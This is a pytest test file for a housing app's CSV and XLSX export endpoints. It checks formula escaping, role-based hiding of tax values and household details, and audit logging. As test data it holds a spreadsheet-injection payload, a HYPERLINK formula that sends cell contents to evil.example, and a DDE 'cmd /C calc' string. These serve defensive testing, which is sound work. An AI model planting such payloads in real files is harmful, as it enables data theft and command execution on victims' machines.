"""Exports of homes and households: only what the reader may see, never a live formula."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from stirrup.imports.headers import HOMES
from stirrup.models import AuditEvent, Home, PlacementStatus, Role
from tests.factories import Factory
from tests.imports.files import upload

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read_csv(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_a_landlord_exports_their_own_homes_with_formulas_neutralised(
    client: TestClient, make: Factory
) -> None:
    landlord = make.user(Role.LANDLORD)
    make.home(owner=landlord, external_ref="A1", notes=INJECTION, cadastral_rental_value_eur=2100)
    make.home(owner=landlord, external_ref="-2", street="@rue du Calvaire")
    make.home(notes="someone else's")
    answer = client.get("/api/v1/exports/homes?format=csv", headers=make.headers(landlord))
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert 'attachment; filename="stirrup-homes-' in answer.headers["content-disposition"]
    rows = read_csv(answer.content)
    assert [row["Référence"] for row in rows] == ["A1", "'-2"]
    assert rows[0]["Remarques"] == "'" + INJECTION
    assert rows[1]["Adresse"] == "'@rue du Calvaire"
    assert rows[0]["Valeur locative cadastrale (€/an)"] == "2100.00"


def test_an_xlsx_export_holds_no_formula_and_speaks_english_when_asked(
    client: TestClient, make: Factory
) -> None:
    landlord = make.user(Role.LANDLORD)
    make.home(owner=landlord, notes=INJECTION)
    answer = client.get("/api/v1/exports/homes?format=xlsx&lang=en", headers=make.headers(landlord))
    sheet = load_workbook(io.BytesIO(answer.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[: len(HOMES)] == [column.en for column in HOMES]
    notes = sheet.cell(row=2, column=header.index("Notes") + 1)
    assert notes.data_type == "s" and notes.value == "'" + INJECTION
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_an_exported_homes_file_imports_back_as_updates(
    client: TestClient, make: Factory, db: Session
) -> None:
    landlord = make.user(Role.LANDLORD)
    headers = make.headers(landlord)
    make.home(owner=landlord, external_ref="A1", notes="- keys at number 14", surface_m2=40)
    exported = client.get("/api/v1/exports/homes?format=xlsx", headers=headers).content
    job = upload(client, "homes", headers, exported)
    assert (job["status"], job["updated_count"], job["created_count"]) == ("done", 1, 0), job
    assert job["unknown_columns"] == ["Code INSEE", "Numéro", "Précision du géocodage"]
    db.rollback()
    assert db.scalar(select(Home.notes)) == "- keys at number 14"


def test_the_tax_value_is_left_out_for_those_who_may_not_see_it(client: TestClient, make: Factory) -> None:
    parties = make.parties(PlacementStatus.ACTIVE)
    answer = client.get("/api/v1/exports/homes", headers=make.headers(parties.staff))
    (row,) = read_csv(answer.content)
    assert row["Adresse"] == parties.home.street
    assert row["Valeur locative cadastrale (€/an)"] == ""


def test_households_in_full_for_their_referent_organisation_only_and_audited(
    client: TestClient, make: Factory, db: Session
) -> None:
    parties = make.parties(PlacementStatus.ACTIVE, contact_name="=cmd|' /C calc'!A0")
    mine = client.get("/api/v1/exports/households?lang=en", headers=make.headers(parties.worker))
    (row,) = read_csv(mine.content)
    assert row["Full name"] == "'=cmd|' /C calc'!A0"
    assert row["Pseudonymous reference"] == parties.household.reference
    assert row["Referent (e-mail)"] == parties.worker.email
    assert row["Support needs"] == "budget"
    db.rollback()
    reads = db.scalars(select(AuditEvent).where(AuditEvent.action == "read_sensitive")).all()
    assert [(r.actor_id, r.entity_id, r.details["via"]) for r in reads] == [
        (parties.worker.id, str(parties.household.id), "export")
    ]

    for reader in (make.user(Role.COORDINATOR), parties.staff):
        answer = client.get("/api/v1/exports/households?lang=en", headers=make.headers(reader))
        (row,) = read_csv(answer.content)
        assert row["Pseudonymous reference"] == parties.household.reference
        assert "calc" not in answer.text and "budget" not in answer.text
        assert {"Full name", "Support needs", "Notes", "Reference", "Referent (e-mail)"}.isdisjoint(row)
    landlord_file = client.get("/api/v1/exports/households", headers=make.headers(parties.owner))
    assert read_csv(landlord_file.content) == []
